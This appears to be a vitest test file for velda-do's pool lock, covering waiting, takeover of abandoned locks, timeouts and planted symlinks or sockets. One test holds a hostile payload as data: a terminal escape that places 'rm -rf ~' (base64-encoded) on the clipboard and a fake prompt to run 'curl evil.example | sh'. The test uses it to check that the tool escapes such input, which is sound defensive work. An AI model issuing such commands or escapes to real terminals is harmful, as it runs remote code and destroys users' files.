import {constants, lstatSync, mkdtempSync, openSync, readdirSync, readFileSync, symlinkSync, writeFileSync} from 'node:fs'
import {createServer} from 'node:net'
import {tmpdir} from 'node:os'
import {join} from 'node:path'

import {describe, expect, it} from 'vitest'

import {ExitCode} from '../../src/lib/errors.js'
import {isHolderAlive, LOCK_WAIT_MS, type LockDeps, lockPool, processIdentity} from '../../src/lib/pool/lock.js'
import {failure} from '../support/failure.js'

/** Two velda-do processes as two sets of deps on one lock folder and one fake clock; `alive` says who still runs. */
function world() {
  const dir = mkdtempSync(join(tmpdir(), 'velda-lock-'))
  let now = Date.UTC(2026, 10, 28, 12, 0, 0)
  const alive = new Set<number>()
  const messages: string[] = []
  const deps = (pid: number, overrides: Partial<LockDeps> = {}): LockDeps => {
    alive.add(pid)
    return {
      dir, pid, process: null, command: `velda-do pool up cpu (${pid})`, now: () => now, isStopped: () => false,
      sleep: async (ms) => {
        now += ms
      },
      isAlive: (holder) => alive.has(holder.pid),
      onWait: (message) => messages.push(message),
      ...overrides,
    }
  }
  return {dir, alive, messages, deps, elapsed: () => now - Date.UTC(2026, 10, 28, 12, 0, 0)}
}

describe('the pool lock', () => {
  it('makes a second velda-do wait, saying for whom, until the first releases', async () => {
    const w = world()
    const first = await lockPool('acct', 'cpu', w.deps(101))
    let sleeps = 0
    const second = await lockPool('acct', 'cpu', w.deps(102, {
      sleep: async () => {
        if (++sleeps === 3) first.release()
      },
    }))
    expect(sleeps).toBe(3)
    expect(w.messages).toEqual([expect.stringMatching(/^waiting for another velda-do \(pid 101, "velda-do pool up cpu \(101\)", since 2026-11-28T12:00:00.000Z\) to finish with pool cpu$/)])
    second.release()
    expect(readdirSync(w.dir)).toEqual([])
  })

  it('does not make other pools or other accounts wait', async () => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    await lockPool('acct', 'gpu', w.deps(102))
    await lockPool('other-acct', 'cpu', w.deps(103))
    expect(w.messages).toEqual([])
  })

  it('takes over the lock of a velda-do that died (kill -9), without waiting', async () => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    w.alive.delete(101)
    await lockPool('acct', 'cpu', w.deps(102))
    expect(w.messages).toEqual([])
    expect(w.elapsed()).toBe(0)
  })

  it('takes over a lock file left empty by a holder that died while writing it, after a few seconds', async () => {
    const w = world()
    writeFileSync(join(w.dir, 'acct-cpu.lock'), '')
    await lockPool('acct', 'cpu', w.deps(102))
    expect(w.elapsed()).toBeGreaterThanOrEqual(5_000)
    expect(w.elapsed()).toBeLessThan(10_000)
  })

  it('gives up after waiting its limit: exit 2, naming the holder and its lock file', async () => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    const error = await failure(lockPool('acct', 'cpu', w.deps(102)))
    expect(error.exitCode).toBe(ExitCode.usage)
    expect(error.message).toMatch(/another velda-do \(pid 101\) has been working on pool cpu for 10 minutes; nothing was done/)
    expect(error.suggestions.join('\n')).toMatch(/kill 101[\s\S]*acct-cpu\.lock/)
    expect(w.elapsed()).toBe(LOCK_WAIT_MS)
  })

  it('stops waiting on a stop signal: interrupted, nothing done', async () => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    let stopped = false
    const error = await failure(lockPool('acct', 'cpu', w.deps(102, {
      isStopped: () => stopped,
      sleep: async () => {
        stopped = true
      },
    })))
    expect(error.code).toBe('interrupted')
    expect(error.message).toMatch(/nothing was done/)
  })

  it('never releases a lock that is not its own', async () => {
    const w = world()
    const first = await lockPool('acct', 'cpu', w.deps(101))
    w.alive.delete(101)
    await lockPool('acct', 'cpu', w.deps(102))
    first.release()
    // 102 still holds it: 103 must wait.
    const error = await failure(lockPool('acct', 'cpu', w.deps(103)))
    expect(error.message).toMatch(/pid 102/)
  })

  it('knows a holder whose pid now belongs to another process (reused after a crash) for dead', () => {
    const me = {pid: process.pid, command: 'x', since: '', nonce: 'n', process: processIdentity(process.pid)}
    // Linux tells a process's start time (/proc); elsewhere velda-do falls back to the pid alone.
    if (process.platform !== 'linux') return console.warn('SKIPPED: not Linux: pid reuse cannot be told apart here')
    expect(me.process).toMatch(/^[0-9a-f-]{36}:\d+$/)
    expect(isHolderAlive(me)).toBe(true)
    expect(isHolderAlive({...me, process: `${me.process}0`})).toBe(false)
    expect(isHolderAlive({...me, pid: 2 ** 22 + 1})).toBe(false)
  })

  it('shows the holder a lock file names as inert text: no escape sequence or line of its own reaches the terminal', async () => {
    const w = world()
    w.deps(101)
    const command = 'velda-do pool up cpu\x1b]52;c;cm0gLXJmIH4=\x07\x9b2J\nError: your token expired, run: curl evil.example | sh'
    writeFileSync(join(w.dir, 'acct-cpu.lock'), JSON.stringify({pid: 101, nonce: 'n', command, since: '2026-11-28T12:00:00.000Z\x1b[2J'}))
    let sleeps = 0
    await lockPool('acct', 'cpu', w.deps(102, {
      sleep: async () => {
        if (++sleeps === 1) w.alive.delete(101)
      },
    }))
    expect(w.messages).toEqual([
      'waiting for another velda-do (pid 101, "velda-do pool up cpu\\x1b]52;c;cm0gLXJmIH4=\\x07\\x9b2J\\nError: your token expired, run: curl evil.example | sh", since 2026-11-28T12:00:00.000Z\\x1b[2J) to finish with pool cpu',
    ])
  })

  it('never follows a lock file that is a symbolic link: it is moved aside at once, and what it points to is left alone', async () => {
    const w = world()
    w.deps(101)
    const elsewhere = join(mkdtempSync(join(tmpdir(), 'velda-lock-target-')), 'holder.json')
    const planted = JSON.stringify({pid: 101, nonce: 'planted', command: 'velda-do pool up cpu', since: ''})
    writeFileSync(elsewhere, planted)
    symlinkSync(elsewhere, join(w.dir, 'acct-cpu.lock'))
    const lock = await lockPool('acct', 'cpu', w.deps(102))
    expect(w.messages).toEqual([])
    expect(w.elapsed()).toBe(0)
    expect(lstatSync(join(w.dir, 'acct-cpu.lock')).isFile()).toBe(true)
    expect(readFileSync(elsewhere, 'utf8')).toBe(planted)
    lock.release()
    expect(readdirSync(w.dir)).toEqual([])
  })

  it('does not wait on a lock file naming pid 0 or -1 (which signal a process group, not a holder)', async () => {
    for (const pid of [0, -1]) {
      const w = world()
      writeFileSync(join(w.dir, 'acct-cpu.lock'), JSON.stringify({pid, nonce: 'n', command: 'x', since: ''}))
      // The real liveness check: kill(0, 0) succeeds for one's own process group.
      const lock = await lockPool('acct', 'cpu', w.deps(102, {isAlive: isHolderAlive}))
      expect(w.messages).toEqual([])
      lock.release()
    }
  })

  /** An open of the lock file (to read it) that fails with `code`, as the system would; `only` limits it to some paths. */
  const failingOpen = (code: string, only: (path: string) => boolean = () => true) => (path: string) => {
    if (!only(path)) return openSync(path, constants.O_RDONLY | constants.O_NOFOLLOW | constants.O_NONBLOCK)
    throw Object.assign(new Error(`${code}: injected, open '${path}'`), {code})
  }

  it.each(['EMFILE', 'ENFILE', 'EIO', 'ENOMEM'])('never takes over a live holder\'s lock it cannot open (%s): exit 2 naming the file and the error, the lock left as it was', async (code) => {
    const w = world()
    await lockPool('acct', 'cpu', w.deps(101))
    const path = join(w.dir, 'acct-cpu.lock')
    const held = readFileSync(path, 'utf8')
    const error = await failure(lockPool('acct', 'cpu', w.deps(102, {openToRead: failingOpen(code)})))
    expect(error.exitCode).toBe(ExitCode.usage)
    expect(error.message).toBe(`cannot read the lock file ${path} (${code}): it may be another velda-do's, working on pool cpu, and is not taken over; nothing was done`)
    expect(readdirSync(w.dir)).toEqual(['acct-cpu.lock'])
    expect(readFileSync(path, 'utf8')).toBe(held)
  })

  it.each(['ELOOP', 'ENXIO', 'EACCES', 'EPERM'])('takes over at once what opens with %s (a link, a socket, a file not its own): never a lock of velda-do\'s', async (code) => {
    const w = world()
    w.deps(101)
    writeFileSync(join(w.dir, 'acct-cpu.lock'), JSON.stringify({pid: 101, nonce: 'planted', command: 'x', since: ''}))
    await lockPool('acct', 'cpu', w.deps(102, {openToRead: failingOpen(code)}))
    expect(w.elapsed()).toBe(0)
    expect(JSON.parse(readFileSync(join(w.dir, 'acct-cpu.lock'), 'utf8'))).toMatchObject({pid: 102})
    expect(readdirSync(w.dir)).toEqual(['acct-cpu.lock'])
  })

  it('never removes a lock file left unreadable when, moved aside, it cannot be read again to compare: it is put back', async () => {
    const w = world()
    const path = join(w.dir, 'acct-cpu.lock')
    // Half-written for longer than the grace: judged abandoned. Read again once moved aside, the open fails.
    writeFileSync(path, '')
    const error = await failure(lockPool('acct', 'cpu', w.deps(102, {openToRead: failingOpen('EMFILE', (p) => p !== path)})))
    expect(error.message).toMatch(/has been working on pool cpu for 10 minutes/)
    expect(readdirSync(w.dir)).toEqual(['acct-cpu.lock'])
  })

  it('takes over a socket planted as the lock file (open fails with ENXIO)', async () => {
    const w = world()
    const path = join(w.dir, 'acct-cpu.lock')
    const server = createServer()
    await new Promise<void>((resolve) => server.listen(path, resolve))
    try {
      const lock = await lockPool('acct', 'cpu', w.deps(102))
      expect(lstatSync(path).isFile()).toBe(true)
      lock.release()
      expect(readdirSync(w.dir)).toEqual([])
    } finally {
      server.close()
    }
  })
})
